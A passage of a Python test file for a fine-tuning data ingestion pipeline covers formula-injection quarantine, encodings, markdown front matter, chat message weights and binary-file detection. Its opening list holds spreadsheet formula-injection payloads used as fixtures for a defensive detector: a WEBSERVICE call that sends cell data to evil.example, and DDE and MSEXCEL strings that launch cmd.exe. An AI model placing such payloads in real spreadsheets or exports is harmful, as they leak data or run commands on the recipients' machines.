        '=WEBSERVICE("http://evil.example/"&A1)',
        '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
        "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
        '\t=HYPERLINK("http://evil.example")',
        '\r=IMPORTDATA("http://evil.example")',
        '+HYPERLINK("http://evil.example/a)b","x")',  # a parenthesis inside a string
        '@hyperlink("http://evil.example")',  # any case
        '-2+3+HYPERLINK("http://evil.example")',
        '--IMAGE("http://evil.example/?"&A1) & "x"',
    ]
    support_text = [
        "- item(s) missing from my order #4411",
        "-Refund(s) still pending after 2 weeks",
        "@support(team) please look at my order",
        "+info(at)example.com asked me to write here",  # INFO is a function, but text follows the call
        "@Sarah|Billing can you look at this",
        "@Sarah|Billing can you look at this?! thanks",
        "- see the Sum(total) line on my invoice",
        "-SUM(of my orders) is wrong",
        "+1 (415) 555-0132 is my callback number",
        "=) thanks for the quick help",
        "Call =HYPERLINK later",  # not at the start
    ]
    assert [p for p in payloads if not is_spreadsheet_formula(p)] == []
    assert [t for t in support_text if is_spreadsheet_formula(t)] == []

    body = "text\n" + "".join('"' + t.replace('"', '""') + '"\n' for t in support_text + payloads[:3])
    _write(tmp_path / "a.csv", body)
    result = ingest_source(SourceSettings(name="f", path="a.csv", format="csv"), tmp_path)
    assert result.records["text"].tolist() == support_text
    assert result.quarantine["reason_code"].tolist() == ["formula_injection"] * 3


def test_ingest_sources_rejects_duplicate_names_and_returns_typed_empty_frames(tmp_path):
    _write(tmp_path / "a.jsonl", _jsonl({"text": ""}))
    source = SourceSettings(name="a", path="a.jsonl", format="jsonl")
    with pytest.raises(ValueError, match=r"duplicate source names \['a'\]"):
        ingest_sources([source, source], tmp_path)
    result = ingest_sources([source], tmp_path)
    assert list(result.records.columns) == RECORD_COLUMNS and result.records.empty
    assert result.quarantine["source_row"].dtype == "int64"


def test_optional_source_without_files_gives_zero_rows_and_a_required_one_raises(tmp_path):
    from finetune_platform.ingest import NoFilesMatchedError

    optional = SourceSettings(name="feedback", path="feedback/*.jsonl", format="jsonl", required=False)
    result = ingest_sources([optional], tmp_path)
    assert list(result.records.columns) == RECORD_COLUMNS and result.records.empty
    assert result.quarantine.empty
    stats = result.stats["feedback"]
    assert (stats.files, stats.rows_read, stats.rows_kept, stats.rows_quarantined) == (0, 0, 0, 0)
    assert result.reconciles()

    with pytest.raises(NoFilesMatchedError, match="source 'feedback': path pattern 'feedback/\\*.jsonl' matched no files"):
        ingest_source(optional.model_copy(update={"required": True}), tmp_path)

    _write(tmp_path / "feedback" / "b1.jsonl", _jsonl({"text": "late arrival"}))  # once files exist, they are read
    assert ingest_source(optional, tmp_path).records["record_id"].tolist() == ["feedback/feedback/b1.jsonl#1"]


@pytest.mark.skipif(not (SNIPS / "test.jsonl").exists(), reason="the shared SNIPS data set is not on this machine")
def test_snips_jsonl_with_intent_labels(tmp_path):
    source = SourceSettings(
        name="snips", path=str(SNIPS / "test.jsonl"), format="jsonl", doc_type="query", label_field="intent"
    )
    result = ingest_source(source, tmp_path)

    assert result.quarantine.empty
    assert len(result.records) == 700
    assert result.records["label"].nunique() == 7
    assert "AddToPlaylist" in set(result.records["label"])
    first = result.records.iloc[0]
    assert first["record_id"] == f"snips/{(SNIPS / 'test.jsonl').resolve().as_posix()}#1"
    assert first["text"] == "I'd like to have this track onto my Classical Relaxations playlist."
    assert result.reconciles()


def test_a_utf8_byte_order_mark_is_skipped_whatever_the_declared_encoding(tmp_path):
    _write(tmp_path / "c.csv", b"\xef\xbb\xbftext,label\ncaf\xe9,a\n")
    source = SourceSettings(name="c", path="c.csv", format="csv", label_field="label", encoding="cp1252")
    kept, quarantined = _outcome(ingest_source(source, tmp_path), "c")
    assert kept == [[1, "café", "a"]] and quarantined == []


def test_markdown_front_matter_is_metadata_not_text(tmp_path):
    _write(tmp_path / "docs" / "reset.md", "---\ntitle: Reset your router\ntags: [network]\n---\n# Reset\nHold the button.\n")
    _write(tmp_path / "docs" / "rule.md", "---\nAn intro paragraph, then a rule.\n---\nMore text.\n")  # no YAML fields
    _write(tmp_path / "docs" / "notes.txt", "---\ntitle: kept in plain text\n---\nbody\n")
    source = SourceSettings(name="d", path="docs/*", format="text")
    result = ingest_source(source, tmp_path)
    texts = dict(zip(result.records["source_file"], result.records["text"]))
    assert texts["docs/reset.md"] == "# Reset\nHold the button.\n"
    assert texts["docs/rule.md"].startswith("---\nAn intro paragraph")
    assert texts["docs/notes.txt"].startswith("---\ntitle: kept")
    assert result.reconciles()


def test_a_chat_reply_with_weight_0_is_kept_as_context_and_curation_keeps_the_mark(tmp_path):
    """OpenAI's per-message weight on a messages_field source: the response is the last reply that may be
    trained on, the weight-0 reply stays in the conversation with its mark through normalise and PII."""
    from finetune_platform.curation import CurationSettings, curate

    _write(
        tmp_path / "c" / "chats.jsonl",
        json.dumps({"messages": [
            {"role": "user", "content": "Where is my parcel? Order 77, I am Sarah Johnson."},
            {"role": "assistant", "content": "Hi Sarah, order 77 ships today from our warehouse."},
            {"role": "user", "content": "It did not ship."},
            {"role": "assistant", "content": "Email sarah.j@example.com yourself, Sarah.", "weight": 0},
        ]}) + "\n"
        + json.dumps({"messages": [{"role": "user", "content": "hi"}, {"role": "assistant", "content": "x", "weight": 2}]})
        + "\n",
    )
    source = SourceSettings(name="c", path="c/*.jsonl", format="jsonl", doc_type="chat", messages_field="messages")
    result = ingest_source(source, tmp_path)
    assert result.records[["text", "response"]].values.tolist() == [
        ["Where is my parcel? Order 77, I am Sarah Johnson.", "Hi Sarah, order 77 ships today from our warehouse."]
    ]
    assert json.loads(result.records["messages"].iloc[0])[3]["weight"] == 0
    assert result.quarantine["reason_code"].tolist() == ["invalid_messages"]
    assert "messages[1].weight is 2; a weight is 0 (do not train on this reply) or 1" in result.quarantine["reason"][0]

    curated = curate(result.records, CurationSettings(min_text_chars=1, min_response_words=1)).records
    last = json.loads(curated["messages"].iloc[0])[3]
    assert last == {"role": "assistant", "content": "Email <EMAIL_1> yourself, <PERSON_1>.", "weight": 0}


@pytest.mark.parametrize(
    "name, content, says",
    [
        ("tickets.jsonl", gzip.compress(b'{"text": "hello"}\n'), "is a gzip-compressed file, not jsonl text: decompress it"),
        ("tickets.csv", b"PK\x03\x04\x14\x00\x06\x00" + b"x" * 40, "is a ZIP archive (an .xlsx or .docx file is one)"),
        ("tickets.csv", "text,category\nhello,billing\n".encode("utf-16"), "is a UTF-16 text file (Excel's 'Unicode Text')"),
        ("tickets.csv", "text,category\nhello,billing\n".encode("utf-16-le"), "is a UTF-16 text file, not csv text: save it as UTF-8"),
        ("notes.md", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "is a PDF document, not text text: extract its text first"),
        ("tickets.jsonl", b"PAR1" + b"\x15\x04" * 20, "is a Parquet file, not jsonl text: give it a source with format: parquet"),
    ],
)
def test_a_file_of_another_kind_is_named_with_what_to_do(tmp_path, name, content, says):
    fmt = {"jsonl": "jsonl", "csv": "csv", "md": "text"}[name.rsplit(".", 1)[1]]
    (tmp_path / "s").mkdir()
    (tmp_path / "s" / name).write_bytes(content)
    result = ingest_sources([SourceSettings(name="s", path=f"s/{name}", format=fmt)], tmp_path)
    assert result.stats["s"].quarantined_by_reason == {"binary_file": 1}
    assert says in result.quarantine["reason"].iloc[0]


@pytest.mark.parametrize("content", ["BZh9 is the brand; my order is late", "PAR1 results: the parcel is lost"])
def test_text_that_only_starts_like_a_magic_number_is_read(tmp_path, content):
    (tmp_path / "s").mkdir()
    (tmp_path / "s" / "t.md").write_text(content, encoding="utf-8")
    result = ingest_sources([SourceSettings(name="s", path="s/t.md", format="text")], tmp_path)
    assert result.stats["s"].rows_kept == 1


def test_reasons_name_json_types_in_json_words(tmp_path):
    """A person reads the reason: "a number", "an empty array", not Python's int or list."""
    _write(tmp_path / "t" / "tickets.jsonl", '{"text": 42}\n[1, 2]\n{"text": true}\n')
    _write(tmp_path / "c" / "chats.jsonl", '{"messages": []}\n{"messages": [null]}\n')
    plain = SourceSettings(name="t", path="t/*.jsonl", format="jsonl")
    chats = SourceSettings(name="c", path="c/*.jsonl", format="jsonl", doc_type="chat", messages_field="messages")
    reasons = ingest_source(plain, tmp_path).quarantine["reason"].tolist()
    reasons += ingest_source(chats, tmp_path).quarantine["reason"].tolist()
    assert "field 'text' is a number, expected a string" in reasons[0]
    assert "line holds an array, expected an object" in reasons[1]
    assert "field 'text' is a boolean, expected a string" in reasons[2]
    assert "must be a non-empty array of {role, content} messages, found an empty array" in reasons[3]
    assert "messages[0] is null, not an object" in reasons[4]
    assert not any(re.search(r"\b(?:NoneType|int|bool|list|dict|str|float)\b", r) for r in reasons)
